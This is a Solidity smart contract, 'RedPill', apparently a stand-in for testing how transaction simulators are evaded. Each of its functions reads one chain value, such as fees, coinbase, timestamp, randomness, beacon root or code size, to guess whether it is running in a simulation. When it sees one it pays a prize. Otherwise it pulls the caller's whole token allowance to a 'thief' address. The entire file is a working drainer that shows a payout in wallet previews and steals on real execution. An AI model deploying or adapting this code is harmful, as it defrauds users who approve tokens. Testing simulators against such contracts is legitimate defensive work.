// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.30;

interface Loot {
    function transfer(address to, uint256 value) external returns (bool);
    function transferFrom(address from, address to, uint256 value) external returns (bool);
}

/// Stands for contracts that look for signs of a simulation: where they see one they pay out, else they take all that the caller
/// allowed them. Each function looks for one sign: a value between low and high, both included. Reversed, it pays where it sees
/// none, so that whichever way a simulation errs there is a call that shows it.
contract RedPill {
    Loot public immutable token;
    address public immutable thief;
    uint256 public immutable prize;
    uint256 public immutable loot;

    event Paid(address indexed to, uint256 value);
    event Taken(address indexed from, uint256 value);

    constructor(Loot token_, address thief_, uint256 prize_, uint256 loot_) {
        token = token_;
        thief = thief_;
        prize = prize_;
        loot = loot_;
    }

    function byBaseFee(uint256 low, uint256 high, bool reversed) external {
        _act(block.basefee, low, high, reversed);
    }

    function byGasPrice(uint256 low, uint256 high, bool reversed) external {
        _act(tx.gasprice, low, high, reversed);
    }

    /// Zero without a priority fee, as a simulation without fees has it.
    function byTip(uint256 low, uint256 high, bool reversed) external {
        _act(tx.gasprice < block.basefee ? 0 : tx.gasprice - block.basefee, low, high, reversed);
    }

    function byBlobBaseFee(uint256 low, uint256 high, bool reversed) external {
        _act(block.blobbasefee, low, high, reversed);
    }

    function byCoinbase(uint256 low, uint256 high, bool reversed) external {
        _act(uint160(address(block.coinbase)), low, high, reversed);
    }

    function byCoinbaseBalance(uint256 low, uint256 high, bool reversed) external {
        _act(block.coinbase.balance, low, high, reversed);
    }

    function byRandomness(uint256 low, uint256 high, bool reversed) external {
        _act(block.prevrandao, low, high, reversed);
    }

    function byTime(uint256 low, uint256 high, bool reversed) external {
        _act(block.timestamp, low, high, reversed);
    }

    function byNumber(uint256 low, uint256 high, bool reversed) external {
        _act(block.number, low, high, reversed);
    }

    function byGasLimit(uint256 low, uint256 high, bool reversed) external {
        _act(block.gaslimit, low, high, reversed);
    }

    function byGasLeft(uint256 low, uint256 high, bool reversed) external {
        _act(gasleft(), low, high, reversed);
    }

    function byChain(uint256 low, uint256 high, bool reversed) external {
        _act(block.chainid, low, high, reversed);
    }

    function byOrigin(uint256 low, uint256 high, bool reversed) external {
        _act(uint160(tx.origin), low, high, reversed);
    }

    function byOriginBalance(uint256 low, uint256 high, bool reversed) external {
        _act(tx.origin.balance, low, high, reversed);
    }

    /// The hash of the block that lies so many blocks back: 1 is the parent.
    function byBlockHash(uint256 back, uint256 low, uint256 high, bool reversed) external {
        _act(uint256(blockhash(block.number - back)), low, high, reversed);
    }

    /// The beacon root of this block's time (EIP-4788), zero where the system contract has none.
    function byBeaconRoot(uint256 low, uint256 high, bool reversed) external {
        (bool ok, bytes memory root) =
            0x000F3df6D732807Ef1319fB7B8bB8522d0Beac02.staticcall(abi.encode(block.timestamp));
        _act(ok && root.length == 32 ? uint256(bytes32(root)) : 0, low, high, reversed);
    }

    function byCodeSize(address account, uint256 low, uint256 high, bool reversed) external {
        _act(account.code.length, low, high, reversed);
    }

    function _act(uint256 sign, uint256 low, uint256 high, bool reversed) private {
        bool simulated = low <= sign && sign <= high;
        if (simulated != reversed) {
            emit Paid(msg.sender, prize);
            token.transfer(msg.sender, prize);
        } else {
            emit Taken(msg.sender, loot);
            token.transferFrom(msg.sender, thief, loot);
        }
    }
}
